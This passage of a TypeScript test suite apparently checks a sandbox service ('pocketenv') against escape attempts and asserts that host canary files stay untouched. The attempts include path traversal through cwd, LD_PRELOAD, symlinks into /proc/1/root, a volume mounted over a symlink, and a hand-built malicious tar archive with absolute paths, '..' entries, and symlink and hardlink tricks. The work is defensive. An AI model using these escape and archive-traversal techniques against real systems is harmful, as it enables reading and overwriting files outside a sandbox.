    expect(r.stdout).not.toContain('sleep 300');
    const state = (await fs.readFile(`/proc/${hostSleeper.pid}/stat`, 'utf8')).split(' ')[2];
    expect(state).not.toMatch(/[tT]/);
  });
});

describe('paths through the API and the provider', () => {
  attempt('exec with a cwd or env that points outside the sandbox', async () => {
    const r1 = await api.procedure('io.pocketenv.sandbox.exec', { id: A }, { command: `cat canary.txt; pwd`, cwd: `/../../..${server.dataDir}` });
    const r2 = await api.procedure('io.pocketenv.sandbox.exec', { id: A }, { command: `cat ${server.dataDir}/canary.txt`, env: [{ name: 'LD_PRELOAD', value: '/proc/1/root/x.so' }] });
    expect(JSON.stringify(r1.body)).not.toContain(CANARY);
    expect(JSON.stringify(r2.body)).not.toContain(CANARY);
    // A path outside the sandbox is the caller's mistake: 400, not a provider failure.
    expect(r1.status).toBe(400);
  });

  attempt('read a host file through a symlink planted in the sandbox (absolute and relative)', async () => {
    await sh(A, `ln -sfn ${hostCanaryDir} /workspace/abs-link; ln -sfn ../../../../../../../..${hostCanaryDir} /workspace/rel-link; ln -sfn /proc/1/root${hostCanaryDir} /workspace/proc-link`);
    for (const p of ['/workspace/abs-link/canary.txt', '/workspace/rel-link/canary.txt', '/workspace/proc-link/canary.txt']) {
      const content = await provider.readFile(A, p).then((b) => b.toString(), (e: Error) => `refused: ${e.message}`);
      expect(content).not.toContain(CANARY);
    }
  });

  attempt('write a host file through a symlink planted in the sandbox', async () => {
    await sh(A, `ln -sfn ${hostCanaryDir} /workspace/w-link; mkdir -p /workspace/d; ln -sfn ${hostCanaryDir}/canary.txt /workspace/d/file-link`);
    for (const p of ['/workspace/w-link/evil.txt', '/workspace/d/file-link']) {
      await provider.writeFiles(A, [{ path: p, content: Buffer.from('PWNED') }]).catch(() => undefined);
    }
    expect(await fs.readFile(path.join(hostCanaryDir, 'canary.txt'), 'utf8')).toBe(CANARY);
    await expect(fs.stat(path.join(hostCanaryDir, 'evil.txt'))).rejects.toThrow();
  });

  attempt('volume mounted over a symlink that points at a host path', async () => {
    const id = `sbx_escvol${randomBytes(4).toString('hex')}`;
    directSandboxes.push(id);
    const volDir = await fs.mkdtemp(path.join(os.tmpdir(), 'pocketenv-escape-vol-'));
    try {
      await fs.writeFile(path.join(volDir, 'in-volume.txt'), 'volume data');
      await provider.create({ id, hostname: 'escvol', base: 'debian', resources: { vcpus: 1, memoryGiB: 0.5, diskGiB: 3, pids: 256 } });
      await provider.start(id);
      await provider.exec(id, `mkdir -p /mnt && ln -sfn ${hostCanaryDir} /mnt/data`);
      await provider.stop(id);
      await provider.start(id, { volumes: [{ hostPath: volDir, path: '/mnt/data' }] }).catch(() => undefined);
      const mountinfo = await fs.readFile('/proc/self/mountinfo', 'utf8');
      expect(mountinfo).not.toContain(` ${hostCanaryDir} `);
      expect(await fs.readdir(hostCanaryDir)).toEqual(['canary.txt']);
      const seen = await provider.exec(id, `cat /mnt/data/canary.txt ${hostCanaryDir}/canary.txt 2>&1; true`).catch((e: Error) => ({ stdout: Buffer.from(e.message) }));
      expect(seen.stdout.toString()).not.toContain(CANARY);
    } finally {
      await provider.delete(id).catch(() => undefined);
      await fs.rm(volDir, { recursive: true, force: true });
    }
  });

  attempt('crafted tar (absolute paths, .., symlink then a file through it, hardlink) unpacked by pullDirectory', async () => {
    const evil = `pocketenv-evil-${randomBytes(4).toString('hex')}`;
    const archive = gzipSync(tarArchive([
      { name: `../../../../../../..${hostCanaryDir}/${evil}-dotdot`, body: 'PWNED' },
      { name: `${hostCanaryDir}/${evil}-abs`, body: 'PWNED' },
      { name: 'link', type: 'symlink', target: hostCanaryDir },
      { name: `link/${evil}-through-link`, body: 'PWNED' },
      { name: 'canary-link', type: 'symlink', target: `${hostCanaryDir}/canary.txt` },
      { name: 'canary-link', body: 'PWNED-overwrite' },
      { name: 'hard', type: 'hardlink', target: `${hostCanaryDir}/canary.txt` },
    ]));
    const form = new FormData();
    form.append('file', new Blob([archive], { type: 'application/gzip' }), 'archive.tar.gz');
    const up = await fetch(new URL('/cp', server.url), { method: 'POST', headers: { authorization: `Bearer ${server.ownerToken}` }, body: form });
    expect(up.status).toBe(200);
    const { uuid } = (await up.json()) as { uuid: string };
    const pull = await api.procedure('io.pocketenv.sandbox.pullDirectory', undefined, { sandboxId: A, uuid, directoryPath: '/workspace/pulled' });
    expect(pull.status).toBeLessThan(500);
    expect((await fs.readdir(hostCanaryDir)).filter((f) => f.includes(evil))).toEqual([]);
    expect(await fs.readFile(path.join(hostCanaryDir, 'canary.txt'), 'utf8')).toBe(CANARY);
    const inside = await sh(A, 'cat /workspace/pulled/hard /workspace/pulled/canary-link 2>&1; true');
    expect(inside.all).not.toContain(CANARY);
  });

  attempt('exfiltrate a host file through pushDirectory of a directory holding symlinks', async () => {
    await sh(A, `mkdir -p /workspace/push && ln -sfn ${hostCanaryDir} /workspace/push/dir-link && ln -sfn ${hostCanaryDir}/canary.txt /workspace/push/file-link && ln -sfn /proc/1/root${hostCanaryDir}/canary.txt /workspace/push/proc-link`);
    const push = await api.procedure('io.pocketenv.sandbox.pushDirectory', undefined, { sandboxId: A, directoryPath: '/workspace/push' });
    expect(push.status).toBeLessThan(500);
    if (push.status !== 200) return; // refused outright: nothing left the sandbox
    const got = await fetch(new URL(`/cp/${push.body.uuid}`, server.url), { headers: { authorization: `Bearer ${server.ownerToken}` } });
    const bytes = Buffer.from(await got.arrayBuffer());
    const text = got.status === 200 ? gunzipSync(bytes).toString('latin1') : bytes.toString();
    expect(text).not.toContain(CANARY);
  });
});

/** A minimal ustar writer, so the archive can hold what no honest tar would write. */
function tarArchive(entries: Array<{ name: string; body?: string; type?: 'file' | 'symlink' | 'hardlink'; target?: string }>): Buffer {
  const blocks: Buffer[] = [];
  for (const e of entries) {
    const body = Buffer.from(e.body ?? '');
    const h = Buffer.alloc(512);
    const put = (text: string, offset: number, length: number) => h.write(text.slice(0, length), offset, 'latin1');
    const octal = (n: number, length: number) => n.toString(8).padStart(length - 1, '0');
    put(e.name, 0, 100);
    put(octal(0o644, 8), 100, 8);
    put(octal(0, 8), 108, 8);
    put(octal(0, 8), 116, 8);
    put(octal(e.type && e.type !== 'file' ? 0 : body.length, 12), 124, 12);
    put(octal(Math.floor(Date.now() / 1000), 12), 136, 12);
    put('        ', 148, 8);
    put(e.type === 'symlink' ? '2' : e.type === 'hardlink' ? '1' : '0', 156, 1);
    put(e.target ?? '', 157, 100);
    put('ustar\u000000', 257, 8);
    let sum = 0;
    for (const byte of h) sum += byte;
    put(sum.toString(8).padStart(6, '0') + '\u0000 ', 148, 8);
    blocks.push(h);
    if (!e.type || e.type === 'file') {
      blocks.push(body, Buffer.alloc((512 - (body.length % 512)) % 512));
    }
  }
  blocks.push(Buffer.alloc(1024));
  return Buffer.concat(blocks);
}
